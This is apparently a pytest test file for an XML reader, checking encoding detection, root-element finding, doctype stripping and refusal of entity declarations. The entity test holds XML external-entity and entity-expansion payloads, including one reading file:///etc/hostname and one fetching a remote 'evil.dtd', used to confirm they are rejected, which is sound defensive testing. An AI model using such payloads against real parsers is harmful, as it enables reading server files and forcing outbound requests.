"""The characters of an XML file: encodings that are declared, wrong, mixed or missing; and no entity of its own."""

from __future__ import annotations

import io
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from samestory.errors import InputError, Malformed
from samestory.ingest.xml_text import XmlText, encoding_of, prolog, root_of

TEXT = "<rss><item>L’été à Velm — “déjà” vu</item></rss>"


def read(data: bytes, charset: str | None = None) -> str:
    text = XmlText(io.BytesIO(data), "f", charset)
    parts = []
    while part := text.read():
        parts.append(part)
    return "".join(parts)


def declared(name: str) -> str:
    return f'<?xml version="1.0" encoding="{name}"?>\n'


@pytest.mark.parametrize(
    ("data", "charset"),
    [
        (TEXT.encode(), None),
        (TEXT.encode("utf-8-sig"), None),
        (TEXT.encode("utf-16"), None),
        (TEXT.encode("utf-16-le"), None),
        (TEXT.encode("utf-16-be"), None),
        (("\n " + TEXT).encode("utf-16-be"), None),
        (TEXT.encode("utf-32"), None),
        (TEXT.encode("utf-32-le"), None),
        ((declared("utf-16") + TEXT).encode(), None),
        ((declared("utf-16") + TEXT).encode("utf-16-le"), None),
        ((declared("iso-8859-1") + TEXT).encode(), None),
        ((declared("iso-8859-1") + TEXT).encode("cp1252"), None),
        ((declared("utf-8") + TEXT).encode("cp1252"), None),
        ((declared("x-velm") + TEXT).encode("cp1252"), None),
        ((declared("zip") + TEXT).encode(), None),
        (TEXT.encode("cp1252"), "windows-1252"),
        (TEXT.encode("cp1252"), None),
        (TEXT.encode(), "windows-1251"),
        (b"<!-- \xc3\xa9 -->" + TEXT.encode("cp1252"), None),
    ],
)
def test_encodings(data: bytes, charset: str | None) -> None:
    assert read(data, charset) == TEXT


def test_other_scripts() -> None:
    text = "<rss>Порт Вельма</rss>"
    assert read((declared("windows-1251") + text).encode("cp1251")) == text
    assert read(text.encode("koi8-r"), "koi8-r") == text
    assert encoding_of("<a>港</a>".encode("shift-jis"), "Shift_JIS") == "shift_jis"


def test_a_character_that_is_cut_between_two_chunks() -> None:
    text = "<rss>" + "a" * 65_530 + "é" * 9 + "</rss>"
    assert read(text.encode()) == text


@pytest.mark.parametrize(
    ("text", "root"),
    [
        ("<rss>", "rss"),
        ("\n\n<?xml version='1.0'?><!-- <a> --><rdf:RDF x='1'>", "RDF"),
        ('<!DOCTYPE rss PUBLIC "-//x>" "http://x"><rss/>', "rss"),
        ('<!doctype r [<!ELEMENT a (b)><!-- ]> "it\'s" --><!ENTITY nbsp "&#160;">]><r>', "r"),
        ("<html lang='en'>", "html"),
        ("<!DOCTYPE r [", None),
        ("<1>", None),
        ("text <b>", None),
        ("", None),
        ("<!-- ", None),
    ],
)
def test_roots(text: str, root: str | None) -> None:
    found = root_of(text.encode())
    assert (found[0] if found else None) == root


@pytest.mark.parametrize(
    "doctype",
    [
        '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">',
        '<!ENTITY passwords SYSTEM "file:///etc/hostname">',
        '<!ENTITY x PUBLIC "a" "http://velm.example/x">',
        '<!ENTITY % remote SYSTEM "http://velm.example/evil.dtd"> %remote;',
        '<!ELEMENT r ANY> <!--x--> <!ENTITY  a  "aaaaaaaaaa">',
    ],
)
def test_entities_are_refused(doctype: str) -> None:
    with pytest.raises(Malformed, match="declares an entity"):
        read(f"<!DOCTYPE r [{doctype}]><r>&lol2;&x;</r>".encode())


def test_a_document_type_is_taken_off() -> None:
    assert read(b'<!DOCTYPE rss SYSTEM "file:///etc/hostname"><rss/>') == "<rss/>"
    assert prolog('<!DOCTYPE a "x"><a>') == (16, '<!DOCTYPE a "x">')


@given(st.binary(max_size=300))
def test_any_bytes(data: bytes) -> None:
    with suppress(InputError):
        assert isinstance(read(data), str)
    root_of(data)
